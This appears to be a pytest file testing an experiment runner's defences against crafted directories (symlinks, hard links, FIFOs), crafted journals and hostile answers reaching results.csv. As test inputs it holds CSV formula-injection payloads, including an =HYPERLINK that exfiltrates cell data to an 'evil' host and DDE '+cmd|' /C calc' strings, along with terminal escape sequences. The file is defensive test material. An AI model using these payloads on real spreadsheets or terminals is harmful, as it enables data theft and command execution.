"""Attacks on the experiment runner's host side: a crafted experiment directory, a crafted journal, hostile answers
reaching the CSV, a reply cache lookup on the shared event loop.

No kernel is needed: each attack is on what the host reads or writes (the
directory may be shared or downloaded; the journal's rows are written back
as results.csv; the cache key hashes a whole conversation at every step).
"""

from __future__ import annotations

import asyncio
import csv
import json
import os
import threading
from pathlib import Path
from typing import Any

import pytest

from kernel_agent.errors import ExperimentError
from kernel_agent.experiment import Configuration, Experiment, ExperimentResults, ReplyCache, Task
from kernel_agent.experiment import cache as cache_module
from kernel_agent.experiment.cache import CachedModel
from kernel_agent.experiment.journal import ExperimentDirectory, row_json
from kernel_agent.models.base import CODE_TOOL, ModelReply, UserTurn
from kernel_agent.models.scripted import ScriptedModel


def a_row(repeat: int = 0, **changes: Any) -> dict[str, Any]:
    row = {"configuration": "c", "task": "t", "repeat": repeat, "success": True, "answer": "1", "checker_error": "",
           "stop_reason": "final_answer", "error": "", "steps": 1, "cells": 1, "tool_calls": 0, "input_tokens": 5,
           "output_tokens": 1, "cache_read_tokens": 0, "cache_write_tokens": 0, "total_tokens": 6,
           "cost": float("nan"), "seconds": 0.5, "model_seconds": 0.0, "model_calls": 1, "cached_replies": 0,
           "notebook": f"notebooks/c/t/repeat-{repeat}.ipynb", "started_at": "2026-01-01T00:00:00.123456+00:00"}
    return {**row, **changes}


def an_experiment(directory: Path, repeats: int = 3) -> Experiment:
    return Experiment("e", [Task("t", "Do it.", expected=1)],
                      [Configuration("c", lambda task, repeat: ScriptedModel(["final_answer(1)"]))],
                      repeats=repeats, directory=directory, cache=False)


def a_spec_directory(tmp_path: Path) -> ExperimentDirectory:
    place = ExperimentDirectory(tmp_path / "exp")
    place.prepare("e", an_experiment(place.path).spec(), start_over=False)
    return place


def raw_line(row: dict[str, Any]) -> bytes:
    return json.dumps({**row, "cost": None}).encode() + b"\n"


# -- a crafted directory -----------------------------------------------------------------------------------------


def test_a_planted_link_at_the_spec_files_temporary_name_is_never_written_through(tmp_path: Path) -> None:
    """experiment.json was written through `.experiment.json.<pid>.tmp` opened by path: a crafted directory with a
    link there had the host (often root) overwrite the file it points to with the spec."""
    victim = tmp_path / "victim"
    victim.write_text("precious")
    place = ExperimentDirectory(tmp_path / "exp")
    place.path.mkdir()
    (place.path / f".experiment.json.{os.getpid()}.tmp").symlink_to(victim)
    place.prepare("e", an_experiment(place.path).spec(), start_over=False)
    assert victim.read_text() == "precious"
    assert json.loads((place.path / "experiment.json").read_text())["name"] == "e"


@pytest.mark.parametrize("linked", ["notebooks", "notebooks/c", "notebooks/c/t"])
def test_a_notebooks_folder_that_links_elsewhere_is_refused_before_any_kernel(tmp_path: Path, linked: str) -> None:
    """notebooks/<config>/<task> linking to /etc (or anywhere) had runs recorded there, and files there moved aside."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "repeat-0.ipynb").write_text("someone's file")
    directory = tmp_path / "exp"
    (directory / linked).parent.mkdir(parents=True)
    (directory / linked).symlink_to(elsewhere)
    with pytest.raises(ExperimentError, match="link"):
        an_experiment(directory).run_sync()
    assert sorted(os.listdir(elsewhere)) == ["repeat-0.ipynb"]
    assert (elsewhere / "repeat-0.ipynb").read_text() == "someone's file"
    with pytest.raises(ExperimentError, match="link"):
        ExperimentDirectory(directory).notebook(("c", "t", 0))


def test_starting_over_never_moves_runs_through_a_linked_previous_folder(tmp_path: Path) -> None:
    place = a_spec_directory(tmp_path)
    place.append(a_row(0))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (place.path / "previous").symlink_to(elsewhere)
    with pytest.raises(ExperimentError, match="link"):
        place.prepare("e", an_experiment(place.path).spec(), start_over=True)
    assert os.listdir(elsewhere) == [] and place.journal.exists()


def test_a_hard_linked_journal_is_neither_cut_nor_appended_to(tmp_path: Path) -> None:
    """The torn-tail cut truncates the journal: through a hard link it cut another file (the host often root)."""
    place = a_spec_directory(tmp_path)
    victim = tmp_path / "victim.jsonl"
    victim.write_bytes(row_json(a_row(0)) + b"not a line end")
    os.link(victim, place.journal)
    with pytest.raises(ExperimentError, match="hard link"):
        place.finished()
    with pytest.raises(ExperimentError, match="hard link"):
        place.append(a_row(1))
    assert victim.read_bytes() == row_json(a_row(0)) + b"not a line end"


# -- a crafted journal -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("changes", "reason"), [
    ({"repeat": 0, "notebook": "notebooks/c/t/repeat-2.ipynb"}, "notebook"),   # another run's record
    ({"stop_reason": "\x1b]8;;http://evil\x07click\x1b]8;;\x07"}, "stop_reason"),  # listed by summaries
    ({"stop_reason": "=HYPERLINK(\"http://evil\")"}, "stop_reason"),
    ({"started_at": "=1+1"}, "started_at"),
    ({"started_at": "\x1b[2J"}, "started_at"),
])
def test_a_crafted_row_is_refused(tmp_path: Path, changes: dict[str, Any], reason: str) -> None:
    place = a_spec_directory(tmp_path)
    with place.journal.open("ab") as file:
        file.write(raw_line(a_row(**changes)))
    with pytest.raises(ExperimentError, match=reason):
        ExperimentResults.load(place.path)


def test_answers_and_errors_never_reach_a_spreadsheet_as_formulas(tmp_path: Path) -> None:
    """results.csv is written from the journal's rows, whose text is kernel-made (or crafted): a cell a spreadsheet
    opens as a formula runs it (=HYPERLINK exfiltrates, =cmd|... runs a program). Numbers stay numbers."""
    place = a_spec_directory(tmp_path)
    formulas = {
        0: {"answer": '=HYPERLINK("http://evil/?"&A1,"ok")', "error": "+cmd|' /C calc'!A0"},
        1: {"answer": "-2+3+cmd|' /C calc'!A0", "checker_error": "@SUM(1+1)*cmd|' /C calc'!A0"},
        2: {"answer": "-5", "error": "\t=1+1", "checker_error": " =1+1"},
    }
    with place.journal.open("ab") as file:
        for repeat, changes in formulas.items():
            file.write(raw_line(a_row(repeat, **changes)))
    results = an_experiment(place.path).run_sync()  # every run finished: the table is written from the journal
    assert results.table["answer"].tolist()[0] == formulas[0]["answer"]  # the table keeps the exact text
    for written in (place.path / "results.csv", results.to_csv(tmp_path / "copy.csv")):
        with written.open(newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r"))]
        assert not [cell for cell in cells if cell.startswith("-") and cell != "-5"]
        assert "-5" in cells and "'" + formulas[0]["answer"] in cells


# -- the reply cache on the shared event loop ----------------------------------------------------------------------


def test_the_cache_key_of_a_long_conversation_is_worked_out_off_the_event_loop(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The key serialises and hashes every turn at every step (megabytes late in a run): on the event loop it
    stalled every other run of the experiment; it runs in a worker thread with the lookup."""
    threads: list[threading.Thread] = []
    real = cache_module.conversation_key

    def noting(**arguments: Any) -> str:
        threads.append(threading.current_thread())
        return real(**arguments)

    monkeypatch.setattr(cache_module, "conversation_key", noting)
    model = CachedModel(ScriptedModel([{"text": "hello"}]), ReplyCache(tmp_path / "cache"), sample=("c", "t", 0))

    async def ask() -> tuple[ModelReply, threading.Thread]:
        reply = await model.complete("system", [UserTurn("x" * 100_000)], CODE_TOOL)
        return reply, threading.current_thread()

    reply, loop_thread = asyncio.run(ask())
    assert reply.text == "hello" and threads and loop_thread not in threads


def test_a_cache_folder_that_links_elsewhere_is_refused_before_any_kernel(tmp_path: Path) -> None:
    """The experiment's own cache/ is where every reply is written: a link there had them written wherever it
    pointed (ReplyCache resolves the path it is given), as root."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    directory = tmp_path / "exp"
    directory.mkdir()
    (directory / "cache").symlink_to(elsewhere)
    experiment = Experiment("e", [Task("t", "Do it.", expected=1)],
                            [Configuration("c", lambda task, repeat: ScriptedModel(["final_answer(1)"]))],
                            repeats=1, directory=directory)
    with pytest.raises(ExperimentError, match="link"):
        experiment.run_sync()
    assert os.listdir(elsewhere) == []


@pytest.mark.parametrize("plant", ["directory", "fifo"])
def test_a_lock_file_that_is_not_a_file_is_a_named_error_not_a_hang(tmp_path: Path, plant: str) -> None:
    directory = tmp_path / "exp"
    directory.mkdir()
    if plant == "directory":
        (directory / ".lock").mkdir()
        with pytest.raises(ExperimentError, match="lock"):
            ExperimentDirectory(directory).lock()
    else:
        os.mkfifo(directory / ".lock")
        os.close(ExperimentDirectory(directory).lock())  # opened without waiting for a writer


def test_a_journal_of_other_runs_is_refused_at_its_first_such_row(tmp_path: Path) -> None:
    """Rows of runs the spec does not have are refused as they are read, not after holding them all."""
    place = a_spec_directory(tmp_path)
    with place.journal.open("ab") as file:
        file.write(raw_line(a_row(0)))
        for index in range(2000):
            file.write(raw_line(a_row(0, configuration=f"other{index}", notebook="")))
    with pytest.raises(ExperimentError, match=r"does not have, e.g. \('other0', 't', 0\) \(line 2\)"):
        place.finished({("c", "t", repeat) for repeat in range(3)})
    assert len(place.finished()) == 2001  # without a spec to hold them to, every row is read


@pytest.mark.parametrize("special", ["fifo", "/dev/zero", "directory"])
def test_an_input_file_that_is_not_a_regular_file_fails_its_run_at_once(tmp_path: Path, special: str) -> None:
    """A task's input file named by host path (a TOML spec may name it): a FIFO hung the run forever in a thread
    nobody can stop, /dev/zero was read to the 1 GB cap in every run."""
    from kernel_agent.experiment.runs import put_files

    source = {"fifo": tmp_path / "pipe", "/dev/zero": Path("/dev/zero"), "directory": tmp_path}[special]
    if special == "fifo":
        os.mkfifo(source)
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    with pytest.raises(ValueError, match="not a regular file"):
        put_files(workspace, {"data.bin": source})
    assert os.listdir(workspace) == []


def test_an_expected_answer_changed_past_its_shown_repr_is_a_changed_spec(tmp_path: Path) -> None:
    """The fingerprint held a bounded repr of `expected` ([0, 1, 2, 3, 4, 5, ...]): changing the list's tail kept
    it, and a resume kept the runs judged against the old answer as if they were of this spec."""
    def experiment(expected: list[int]) -> Experiment:
        return Experiment("e", [Task("t", "Do it.", expected=expected)],
                          [Configuration("c", lambda task, repeat: ScriptedModel(["final_answer(1)"]))],
                          repeats=1, directory=tmp_path / "exp", cache=False)

    place = ExperimentDirectory(tmp_path / "exp")
    place.prepare("e", experiment(list(range(20))).spec(), start_over=False)
    with pytest.raises(ExperimentError, match=r"different spec.*expected_sha256"):
        place.prepare("e", experiment([*range(19), 0]).spec(), start_over=False)
